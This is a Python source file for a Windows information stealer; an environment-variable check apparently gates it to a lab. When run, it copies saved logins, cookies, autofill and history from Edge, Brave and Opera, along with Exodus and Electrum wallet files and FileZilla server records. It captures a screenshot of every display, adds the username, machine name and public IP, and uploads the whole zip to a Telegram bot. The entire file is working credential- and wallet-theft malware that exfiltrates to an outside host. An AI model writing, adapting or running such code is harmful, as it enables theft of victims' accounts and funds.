# coding: utf8
import io
import os
import shutil
import sqlite3
import sys
import tempfile
import zipfile

import requests
from PIL import ImageGrab

if not os.environ.get("LAB_ARMED"):
    sys.exit(0)

BOT = "7«d9»:AAF«u32»"
CHAT_ID = "5«d8»"
LOCAL = os.getenv("LOCALAPPDATA", "")
ROAM = os.getenv("APPDATA", "")

BROWSERS = {
    "edge": LOCAL + r"\Microsoft\Edge\User Data\Default",
    "brave": LOCAL + r"\BraveSoftware\Brave-Browser\User Data\Default",
    "opera": ROAM + r"\Opera Software\Opera Stable",
}
WANTED = ("Login Data", "Cookies", "Web Data", "History")
WALLETS = [ROAM + r"\Exodus\exodus.wallet", ROAM + r"\Electrum\wallets"]


def public_ip():
    try:
        return requests.get("https://api.ipify.org", timeout=5).text
    except Exception:
        return "?"


def collect(z):
    for label, base in BROWSERS.items():
        for name in WANTED:
            src = os.path.join(base, name)
            if os.path.isfile(src):
                tmp = tempfile.mktemp(".db")
                shutil.copyfile(src, tmp)
                z.write(tmp, label + "/" + name)
                os.remove(tmp)
    for w in WALLETS:
        if os.path.isdir(w):
            for n in os.listdir(w):
                z.write(os.path.join(w, n), "wallet/" + n)
    fz = os.path.join(ROAM, "FileZilla", "recentservers.xml")
    if os.path.exists(fz):
        z.write(fz, "filezilla.xml")


def count_logins(path):
    try:
        con = sqlite3.connect(path)
        return con.execute("SELECT COUNT(*) FROM logins").fetchone()[0]
    except sqlite3.Error:
        return 0


shot = io.BytesIO()
ImageGrab.grab(all_screens=True).save(shot, "PNG")
buf = io.BytesIO()
with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
    collect(z)
    z.writestr("screen.png", shot.getvalue())
caption = "%s@%s %s" % (os.getlogin(), os.environ.get("COMPUTERNAME"), public_ip())
requests.post(
    "https://api.telegram.org/bot" + BOT + "/sendDocument",
    data={"chat_id": CHAT_ID, "caption": caption},
    files={"document": ("r.zip", buf.getvalue())},
)
